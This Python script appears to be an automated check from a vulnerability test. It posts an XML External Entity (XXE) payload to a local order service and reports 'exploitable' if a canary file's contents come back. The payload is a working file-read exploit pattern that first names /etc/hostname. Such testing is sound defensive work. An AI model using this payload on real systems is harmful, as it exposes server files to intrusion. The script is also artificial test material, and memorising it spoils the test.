import os
import sys
import time
import traceback

import httpx

BASE = os.environ.get("BASE_URL", "http://127.0.0.1:8000")
c = httpx.Client(base_url=BASE, timeout=60)


def _fail(t, v, tb):
    traceback.print_exception(t, v, tb)
    os._exit(2)


sys.excepthook = _fail


def done(hit):
    print("exploitable" if hit else "not exploitable")
    sys.exit(0 if hit else 1)


import tempfile

K = dict(p.split(":") for p in os.environ["DEALER_KEYS"].split(","))
x = b'<!DOCTYPE order [<!ENTITY x SYSTEM "file:///etc/hostname">]><order><reference>[&x;]</reference><item sku="P1" count="2"/></order>'
with tempfile.NamedTemporaryFile("w", suffix=".txt", delete=False) as f:
    f.write("file-content-4711")
os.chmod(f.name, 0o644)
x = x.replace(b"/etc/hostname", f.name.encode())
r = c.post("/orders", content=x, headers={"X-Dealer-Key": K["north"], "content-type": "application/xml"})
os.unlink(f.name)
done("file-content-4711" in r.text)
